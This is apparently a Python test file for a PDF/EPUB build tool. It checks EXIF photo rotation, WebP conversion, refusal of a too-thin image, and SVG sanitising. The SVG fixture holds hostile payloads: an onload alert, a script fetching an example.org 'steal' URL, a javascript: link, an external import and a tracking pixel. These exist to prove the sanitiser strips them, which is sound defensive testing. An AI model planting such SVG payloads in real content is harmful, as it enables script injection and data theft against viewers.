"""Images of every kind a trust sends: a phone photo stored on its side with an EXIF orientation
is printed upright, a WebP picture is converted, a picture too thin to print is refused with its
name."""
from __future__ import annotations

import io
import zipfile

import pdfplumber
from PIL import Image

from test_every_document import assert_user_error, build, edition_with


def sideways_photo() -> bytes:
    """A portrait photo (300 wide, 600 high) as a phone stores it: landscape pixels, EXIF
    orientation 6 (turn 90 degrees clockwise to view)."""
    stored = Image.new("RGB", (600, 300), (0, 94, 184))
    stored.paste((255, 255, 255), (0, 0, 100, 300))     # a white band: the top once turned
    exif = Image.Exif()
    exif[0x0112] = 6
    buffer = io.BytesIO()
    stored.save(buffer, "JPEG", exif=exif.tobytes(), quality=90)
    return buffer.getvalue()


def webp_picture() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA", (240, 160), (0, 48, 135, 255)).save(buffer, "WEBP", lossless=True)
    return buffer.getvalue()


def drawn_images(pdf_path) -> list[tuple[float, float]]:
    with pdfplumber.open(pdf_path) as pdf:
        return [(round(i["width"]), round(i["height"])) for page in pdf.pages for i in page.images]


def epub_images(epub_path) -> dict[str, bytes]:
    with zipfile.ZipFile(epub_path) as epub:
        return {n: epub.read(n) for n in epub.namelist() if "/images/" in n and "cover" not in n}


def test_a_photo_stored_on_its_side_is_printed_upright(tmp_path):
    sources = edition_with(tmp_path, "Text.\n\n![A portrait photo](photo.jpg)\n",
                           files={"case-studies/photo.jpg": sideways_photo()})
    code, text, out = build(sources)
    assert code == 0, text
    [(width, height)] = drawn_images(out / "compendium.pdf")
    assert height > width * 1.8                    # portrait, as viewed on the phone
    [data] = epub_images(out / "compendium.epub").values()
    with Image.open(io.BytesIO(data)) as shown:
        assert shown.size == (300, 600)
        assert shown.getpixel((150, 20)) == (255, 255, 255) or min(shown.getpixel((150, 20))) > 240   # the top band


def test_a_webp_picture_is_converted_to_png(tmp_path):
    sources = edition_with(tmp_path, "Text.\n\n![A chart](chart.webp)\n", files={"case-studies/chart.webp": webp_picture()})
    code, text, out = build(sources)
    assert code == 0, text
    assert len(drawn_images(out / "compendium.pdf")) == 1
    [(name, data)] = epub_images(out / "compendium.epub").items()
    assert name.endswith(".png") and data.startswith(b"\x89PNG")


def test_a_picture_too_thin_to_print_is_refused_with_its_size(tmp_path):
    buffer = io.BytesIO()
    Image.new("RGB", (1, 2000), (0, 0, 0)).save(buffer, "PNG")
    sources = edition_with(tmp_path, "Text.\n\n![A line](line.png)\n", files={"case-studies/line.png": buffer.getvalue()})
    code, text, _out = build(sources)
    assert_user_error(code, text, "case-studies/only.md", "image 'line.png' is 1 x 2000 pixels: too thin to print")


HOSTILE_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="400" height="200"
     viewBox="0 0 400 200" onload="alert(1)" inkscape:version="1.2">
  <script>fetch('https://example.org/steal')</script>
  <style>@import url(https://example.org/font.css);</style>
  <rect x="10" y="10" width="120" height="180" fill="#005EB8" onclick="steal()"/>
  <rect x="150" y="60" width="120" height="130" fill="url(#shade)"/>
  <linearGradient id="shade"><stop offset="0" stop-color="#003087"/><stop offset="1" stop-color="#41B6E6"/></linearGradient>
  <image xlink:href="https://example.org/track.png" x="0" y="0" width="1" height="1"/>
  <a href="javascript:alert(2)"><text x="290" y="100" font-family="Comic Sans MS" font-size="20">Uptake</text></a>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">html</div></foreignObject>
</svg>
"""


def test_an_svg_is_drawn_as_vectors_in_the_pdf_and_sanitised_in_the_epub(tmp_path):
    from test_tagged_pdf import marked_content_problems, ua1_failures

    import page

    sources = edition_with(tmp_path, "Text.\n\n![A bar chart of uptake](chart.svg)\n",
                           files={"case-studies/chart.svg": HOSTILE_SVG})
    code, text, out = build(sources)
    assert code == 0, text
    assert "8 parts of the SVG picture removed (scripts, event handlers, references to other files)" in text, text
    pdf = out / "compendium.pdf"
    with pdfplumber.open(pdf) as doc:
        [chart_page] = [p for p in doc.pages if "Uptake" in (p.extract_text() or "")]
        assert not chart_page.images                  # vectors, not a picture of them
        assert len(chart_page.rects) >= 1
        assert {c["fontname"].split("+")[-1] for c in chart_page.chars if c["text"] in "Uptake"} == {"LiberationSans"}
    assert marked_content_problems(pdf) == []
    assert ua1_failures(page.validate_pdf(str(pdf), profile="ua1")) == []
    [(name, data)] = epub_images(out / "compendium.epub").items()
    assert name.endswith(".svg")
    for gone in (b"script", b"onload", b"onclick", b"example.org", b"javascript", b"foreignObject", b"inkscape", b"@import"):
        assert gone not in data, gone
    assert b"url(#shade)" in data and b"Uptake" in data      # EPUBCheck reads it in test_maths (one Java start)
